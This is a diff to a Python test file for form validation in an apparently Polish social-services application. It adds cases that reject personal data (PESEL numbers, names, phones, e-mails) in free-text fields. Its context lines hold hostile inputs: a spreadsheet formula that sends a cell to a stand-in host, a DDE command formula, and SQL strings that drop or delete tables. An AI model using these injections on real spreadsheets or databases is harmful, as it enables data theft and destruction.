@@ -31,6 +31,26 @@ FORMULAS = ['=HYPERLINK("http://zly.example/?"&A1,"Kliknij")', "+cmd|' /C calc'!
 CONTROL = ["a\x00b", "dzwonek\x07", "esc\x1b[31m", "del\x7f"]
 IMPOSSIBLE_DATES = ["2026-02-30", "30.02.2026", "2026-13-01", "jutro", ""]
 IMPLAUSIBLE_DATES = [date(1899, 12, 31), date(2099, 1, 1), date(2009, 12, 31)]
+# Hardening issue, finding 2: what was saved outside the case fields, and the variants that passed in them.
+PERSONAL = {
+    "pesel": "PESEL 44051401359",
+    "pesel-spaced": "PESEL 44 05 14 01 359",
+    "pesel-dashed": "440-514-013-59",
+    "name": "Jan Kowalski",
+    "name-lower": "jan kowalski",
+    "name-initial": "Nowak J.",
+    "phone": "tel. 501 234 567",
+    "phone-2222": "501 23 45 67",
+    "email": "jan.kowalski@wp.pl",
+    "email-at": "jan.kowalski(at)wp.pl",
+    "address": "ul. Lipowa 5/2",
+    "address-streetless": "Lipowa 5 m. 2, Toruń",
+    "birth-date": "ur. 14.05.1944 r.",
+}
+# An institution's contact may hold a phone and an e-mail, but not a person's e-mail nor anything else.
+CONTACT_PERSONAL = {k: v for k, v in PERSONAL.items() if not k.startswith("phone") and k != "email"} | {
+    "email-person": "jan.kowalski@wp.pl"
+}
 BAD_TERC = ["340101", "34010111", "3401019", "abcdefg", "'; DROP TABLE zgloszenie; --", None]
 
 Case = tuple[str, Callable[[duckdb.DuckDBPyConnection], Any], str]
@@ -99,6 +119,11 @@ def _user(
     username: str = "nowy", name: str = "Nowa Osoba", role: str = "animator", password: Any = "tajne-haslo-26"
 ):
     return lambda conn: users.add_user(conn, ADMIN, username, name, role, password)
+
+
+def _each(name: str, make: Callable[[str], Any], field: str, values: dict[str, str] = PERSONAL) -> list[Case]:
+    """One case per kind of personal data, refused with the field and the kind ("Uwagi: wygląda na")."""
+    return [(f"{name}-{kind}", make(value), f"{field}: wygląda na") for kind, value in values.items()]
 
 
 FORM_CASES: list[Case] = [
@@ -209,6 +234,18 @@ FORM_CASES: list[Case] = [
         lambda c: wzk.set_recommendation_status(c, ADMIN, 3, "done", TODAY, TODAY, expected_version=0),
         "odśwież i spróbuj ponownie",
     ),
+    *_each("event-note", lambda v: _event(note=v), "Uwagi"),
+    *_each("event-evidence", lambda v: _event(evidence=v), "Dokument (protokół, porozumienie)"),
+    *_each("shift-reason", lambda v: _shift(reason=v), "Powód przesunięcia"),
+    *_each("zgloszenie-note", lambda v: _zgloszenie(note=v), "Uwagi"),
+    *_each("institution-name", lambda v: _institution(name=f"Klub {v}"), "Nazwa instytucji"),
+    ("institution-name-person", _institution(name="Stowarzyszenie Jan Kowalski i Syn"), "Nazwa instytucji"),
+    *_each("recommendation-text", lambda v: _recommendation(text=f"Wesprzeć: {v}"), "Treść rekomendacji"),
+    *_each("recommendation-owner", lambda v: _recommendation(owner=v), "Odpowiedzialny"),
+    *_each("service-access", lambda v: _service(access=v), "Jak skorzystać"),
+    *_each("service-contact", lambda v: _service(contact=v), "Kontakt", CONTACT_PERSONAL),
+    ("wzk-member-name-pesel", _wzk_member(full_name="Anna Nowak 44051401359"), "Imię i nazwisko członka WZK"),
+    ("wzk-member-role-phone", _wzk_member(role="członkini, tel. 501 234 567"), "Funkcja: wygląda na"),
     ("user-login-format", _user(username="Zły Login!"), "Login"),
     ("user-login-sql", _user(username="x'; DELETE FROM app_user; --"), "Login"),
     ("user-duplicate", _user(username="admin"), "Login: użytkownik admin już istnieje"),
